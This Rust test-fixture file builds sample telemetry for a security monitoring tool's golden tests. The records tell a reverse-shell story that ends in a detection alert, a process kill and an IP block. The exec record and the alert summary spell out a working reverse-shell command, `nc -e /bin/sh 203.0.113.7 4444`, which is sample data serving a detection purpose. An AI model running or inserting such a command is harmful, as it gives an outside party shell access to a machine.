//! One record of every kind a format maps, with fixed values: what the
//! golden tests validate and what docs/events.md shows. A reverse shell
//! story: bash forks, the child execs `nc`, connects out, an alert fires
//! and the response kills it.

use std::net::IpAddr;
use std::sync::Arc;

use crate::detect::{attack, Alert, Severity};
use crate::enforce::actions::{Action, ActionState, Verb};
use crate::pipeline::guid::Guids;
use crate::record::{self, Body, FileId, Record};
use crate::response::record::ResponseRecord;
use crate::sink::Output;

pub const HOST: &str = "web-1";
const BOOT_ID: &str = "5f0c6e1a-8d2b-4c47-9a51-3e7d2b9c0f14";
const PID: u32 = 4242;
const PPID: u32 = 4200;
const START: u64 = 1_234_567;
const PARENT_START: u64 = 1_200_000;

/// Everything [`records`] holds, owned.
/// The sample of `kind` put through a format's `translate`.
pub fn translated(
    kind: &str,
    translate: fn(&Output<'_>) -> Option<serde_json::Value>,
) -> serde_json::Value {
    let s = samples();
    let out = s.outputs();
    let (_, o) = out.iter().find(|(k, _)| *k == kind).expect("sample");
    translate(o).expect("mapped")
}

pub struct Samples {
    pub events: Vec<Record>,
    pub alert: Alert,
    pub actions: Vec<ResponseRecord>,
}

impl Samples {
    /// Each sample with its name (the native kind; `net_connect` etc.).
    pub fn outputs(&self) -> Vec<(&'static str, Output<'_>)> {
        let mut v: Vec<(&'static str, Output<'_>)> = self
            .events
            .iter()
            .map(|r| (r.body.kind(), Output::Event(r)))
            .collect();
        v.push(("alert", Output::Alert(&self.alert)));
        v.extend(self.actions.iter().map(|a| ("action", Output::Response(a))));
        v
    }
}

fn ip(s: &str) -> IpAddr {
    s.parse().unwrap_or(IpAddr::from([0, 0, 0, 0]))
}

pub fn guid() -> Arc<str> {
    Guids::new(BOOT_ID).guid(PID, START)
}

pub fn parent_guid() -> Arc<str> {
    Guids::new(BOOT_ID).guid(PPID, PARENT_START)
}

fn rec(ts: &str, body: Body, process: bool) -> Record {
    Record {
        body,
        guid: process.then(guid),
        parent_guid: process.then(parent_guid),
        ts: ts.to_string(),
        host: Arc::from(HOST),
        wall_ns: super::epoch_ms(ts) * 1_000_000,
    }
}

fn conn(old_state: Option<&'static str>) -> record::Conn {
    record::Conn {
        pid: Some(PID),
        comm: "nc".into(),
        exe: Some(Arc::from("/usr/bin/nc.openbsd")),
        uid: Some(1000),
        proto: "tcp",
        src_ip: ip("10.0.0.5"),
        src_port: 51_234,
        dst_ip: ip("203.0.113.7"),
        dst_port: 4444,
        community_id: crate::pipeline::community_id::community_id(
            0,
            6,
            ip("10.0.0.5"),
            51_234,
            ip("203.0.113.7"),
            4444,
        ),
        old_state,
    }
}

fn inbound(kind: fn(record::Conn) -> Body) -> Body {
    kind(record::Conn {
        pid: Some(812),
        comm: "sshd".into(),
        exe: Some(Arc::from("/usr/sbin/sshd")),
        uid: Some(0),
        proto: "tcp",
        src_ip: ip("10.0.0.5"),
        src_port: 22,
        dst_ip: ip("198.51.100.23"),
        dst_port: 40_022,
        community_id: crate::pipeline::community_id::community_id(
            0,
            6,
            ip("10.0.0.5"),
            22,
            ip("198.51.100.23"),
            40_022,
        ),
        old_state: None,
    })
}

pub fn samples() -> Samples {
    let exec = record::ProcessExec {
        pid: PID,
        ppid: PPID,
        uid: 1000,
        gid: 1000,
        comm: "nc".into(),
        exe: "/usr/bin/nc.openbsd".into(),
        argv: vec![
            "nc".into(),
            "-e".into(),
            "/bin/sh".into(),
            "203.0.113.7".into(),
            "4444".into(),
        ],
        argv_truncated: false,
        cgroup_id: 7_321,
        stdio_socket: None,
        parent_exe: Some(Arc::from("/usr/bin/bash")),
        start_time: Some(START),
        exe_file: Some(FileId {
            dev: 2049,
            ino: 1_311_042,
            generation: Some(3_771_234_567),
        }),
        script_file: None,
        file_owner: None,
        exe_arg: None,
        parent_cmdline: Some(Arc::from("bash -i")),
        cwd: Some("/home/alice".into()),
        auid: Some(1000),
    };
    let mut events = vec![
        rec(
            "2026-12-01T10:00:00.100000000Z",
            Body::ProcessFork(record::ProcessFork {
                pid: PID,
                ppid: PPID,
                maybe_thread: false,
            }),
            true,
        ),
        rec(
            "2026-12-01T10:00:00.101000000Z",
            Body::ProcessExec(exec),
            true,
        ),
        rec(
            "2026-12-01T10:00:00.150000000Z",
            Body::NetConnect(conn(None)),
            true,
        ),
        rec(
            "2026-12-01T10:00:00.151000000Z",
            Body::NetConnectFailed(conn(Some("syn_sent"))),
            true,
        ),
        rec(
            "2026-12-01T10:00:02.000000000Z",
            Body::FileWrite(record::FileWrite {
                pid: PID,
                comm: "sh".into(),
                exe: Some(Arc::from("/usr/bin/dash")),
                path: "/tmp/.x/payload".into(),
                file: Some(FileId {
                    dev: 2049,
                    ino: 1_400_001,
                    generation: Some(11),
                }),
            }),
            true,
        ),
        rec(
            "2026-12-01T10:00:05.000000000Z",
            Body::NetClose(conn(Some("established"))),
            true,
        ),
        rec(
            "2026-12-01T10:00:05.200000000Z",
            Body::ProcessExit(record::ProcessExit {
                pid: PID,
                exit_code: None,
                signal: Some(9),
                comm: "nc".into(),
                exe: Some(Arc::from("/usr/bin/nc.openbsd")),
            }),
            true,
        ),
        rec(
            "2026-12-01T10:00:05.300000000Z",
            Body::Flow(Box::new(record::Flow {
                community_id: conn(None).community_id,
                proto: "tcp",
                direction: "outbound",
                src_ip: ip("10.0.0.5"),
                src_port: 51_234,
                dst_ip: ip("203.0.113.7"),
                dst_port: 4444,
                pid: Some(PID),
                comm: Some(Arc::from("nc")),
                exe: Some(Arc::from("/usr/bin/nc.openbsd")),
                packets_out: 14,
                packets_in: 11,
                bytes_out: 2_310,
                bytes_in: 1_022,
                duration_ms: 5_100.0,
                syn: 1,
                rst: 0,
                fin: 2,
                end_reason: "close",
                features: [0.0; 16],
            })),
            true,
        ),
    ];
    let mut accept = rec(
        "2026-12-01T10:01:00.000000000Z",
        inbound(Body::NetAccept),
        false,
    );
    accept.guid = Some(Guids::new(BOOT_ID).guid(812, 900));
    events.push(accept);
    events.push(rec(
        "2026-12-01T10:01:00.500000000Z",
        inbound(Body::NetRefused),
        false,
    ));
    let mut auth = rec(
        "2026-12-01T10:01:01.000000000Z",
        Body::AuthAttempt(record::AuthAttempt {
            pid: 9_001,
            uid: 0,
            comm: "sshd".into(),
            exe: Some(Arc::from("/usr/sbin/sshd")),
            service: Some("sshd".into()),
            user: Some("root".into()),
            rhost: Some("198.51.100.23".into()),
            result: "failure",
            code: 7,
            trusted: true,
            peer: Some(ip("198.51.100.23")),
        }),
        false,
    );
    auth.guid = Some(Guids::new(BOOT_ID).guid(9_001, 5_000));
    auth.parent_guid = Some(Guids::new(BOOT_ID).guid(812, 900));
    events.push(auth);

    let alert = Alert {
        kind: "alert",
        id: "0193f1c2-7a7e-7c1d-9a3b-2f4e5d6c7b8a".into(),
        ts: "2026-12-01T10:00:00.101000000Z".into(),
        host: Arc::from(HOST),
        detector: "process",
        severity: Severity::High,
        confidence: 0.9,
        techniques: vec![attack::technique("T1059.004")],
        summary: "reverse shell: nc -e /bin/sh 203.0.113.7 4444".into(),
        entities: serde_json::json!({
            "pid": PID,
            "start_time": START,
            "ppid": PPID,
            "exe": "/usr/bin/nc.openbsd",
            "parent_exe": "/usr/bin/bash",
            "uid": 1000,
            "argv": ["nc", "-e", "/bin/sh", "203.0.113.7", "4444"],
            "dst_ip": "203.0.113.7",
            "guid": &*guid(),
            "parent_guid": &*parent_guid(),
        }),
        evidence: serde_json::json!({"rule": "shell_with_network_peer"}),
        count: 1,
        first_seen: "2026-12-01T10:00:00.101000000Z".into(),
        update: false,
    };
    let mut kill = Action::new(
        HOST,
        Verb::Kill,
        PID.to_string(),
        None,
        ActionState::Applied,
        "SIGKILL to pid 4242 (start time 1234567)",
    );
    kill.id = "0193f1c2-7a7f-7000-8000-00000000a001".into();
    kill.ts = "2026-12-01T10:00:00.180000000Z".into();
    kill.incident = Some("inc-0193f1c2".into());
    kill.audited = Some(true);
    kill.audit_seq = Some(41);
    let mut block = Action::new(
        HOST,
        Verb::Block,
        "203.0.113.7/32",
        Some(3_600),
        ActionState::DryRun,
        "in+out",
    );
    block.id = "0193f1c2-7a7f-7000-8000-00000000a002".into();
    block.ts = "2026-12-01T10:00:00.181000000Z".into();
    block.incident = Some("inc-0193f1c2".into());
    Samples {
        events,
        alert,
        actions: vec![ResponseRecord::Action(kill), ResponseRecord::Action(block)],
    }
}
